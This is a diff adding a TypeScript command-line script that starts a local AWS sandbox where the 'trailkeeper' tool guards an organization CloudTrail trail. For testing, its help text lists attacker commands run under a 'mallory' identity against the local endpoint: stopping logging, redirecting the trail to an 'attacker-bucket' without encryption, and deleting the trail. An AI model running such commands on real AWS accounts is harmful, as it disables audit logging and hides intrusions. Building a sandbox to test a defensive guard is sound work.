@@ -1,0 +1,85 @@
+import { Command, InvalidArgumentError, Option } from 'commander';
+import type { CallRecord } from './api.ts';
+import { type Sandbox, startSandbox } from './sandbox.ts';
+
+type Options = {
+  readonly port: number;
+  readonly mode: 'observe' | 'enforce';
+  readonly sweepEvery: number;
+  readonly json?: true;
+};
+
+await new Command('npm run sandbox --')
+  .description(
+    'An AWS on this computer with trailkeeper deployed and an organization trail to attack.',
+  )
+  .option('--port <n>', 'port on 127.0.0.1; 0 is any free one', wholeNumber, 4599)
+  .addOption(new Option('--mode <mode>').choices(['observe', 'enforce']).default('enforce'))
+  .option('--sweep-every <seconds>', '0: only by POST /_sandbox/sweep', wholeNumber, 2)
+  .option('--json', 'print {"endpoint","account","region","trail","table"} and nothing else')
+  .action(run)
+  .parseAsync();
+
+async function run({ port, mode, sweepEvery, json }: Options): Promise<void> {
+  const sandbox = await startSandbox({
+    port,
+    mode,
+    sweepEveryMs: sweepEvery === 0 ? null : sweepEvery * 1000,
+    ...(json ? {} : { onCall: tellTrailWrite }),
+  }).catch((error: NodeJS.ErrnoException) => {
+    if (error.code !== 'EADDRINUSE') throw error;
+    console.error(`port ${port} is taken: give another one with --port, or 0 for any free one`);
+    process.exit(1);
+  });
+  const { endpoint, account, region, trail, table } = sandbox;
+  console.log(
+    json
+      ? JSON.stringify({ endpoint, account, region, trail, table })
+      : invitation(sandbox, { mode, sweepEvery }),
+  );
+  for (const signal of ['SIGINT', 'SIGTERM'] as const) {
+    process.once(signal, () => sandbox.stop().then(() => process.exit(0)));
+  }
+}
+
+function wholeNumber(text: string): number {
+  if (!/^\d+$/.test(text)) throw new InvalidArgumentError('It must be a whole number.');
+  return Number(text);
+}
+
+function invitation(
+  { endpoint, account, region, trail, table }: Sandbox,
+  { mode, sweepEvery }: Pick<Options, 'mode' | 'sweepEvery'>,
+): string {
+  return `
+trailkeeper guards ${trail}
+in mode ${mode}, ${sweepEvery === 0 ? 'with a sweep only when asked' : `with a sweep every ${sweepEvery} s`}. Ctrl-C stops it.
+
+In another shell, be somebody with rights in account ${account}:
+
+  export AWS_ENDPOINT_URL=${endpoint} AWS_REGION=${region} AWS_DEFAULT_REGION=${region}
+  export AWS_ACCESS_KEY_ID=mallory AWS_SECRET_ACCESS_KEY=any
+  export TRAILKEEPER_TABLE=${table}
+
+  aws cloudtrail stop-logging --name org-trail
+  aws cloudtrail update-trail --name org-trail --s3-bucket-name attacker-bucket --kms-key-id ""
+  aws cloudtrail delete-trail --name org-trail
+
+and a moment later:
+
+  aws cloudtrail get-trail --name org-trail
+  aws cloudtrail get-trail-status --name org-trail
+  curl -s -X POST ${endpoint}/_sandbox/sweep     # sweep now
+  curl -s ${endpoint}/_sandbox/calls             # every call, by whom
+
+Every call that changes a trail shows here:
+`;
+}
+
+function tellTrailWrite({ at, service, operation, principal, input, error }: CallRecord): void {
+  if (service !== 'cloudtrail' || /^(Get|List|Describe|Lookup)/.test(operation)) return;
+  const who = principal.split(':').at(-1);
+  const { Name, ...sent } = input;
+  const members = Object.keys(sent).length === 0 ? '' : ` ${JSON.stringify(sent)}`;
+  console.log(`${at.slice(11, 19)} ${who}: ${operation} ${Name}${members} ${error ?? ''}`);
+}
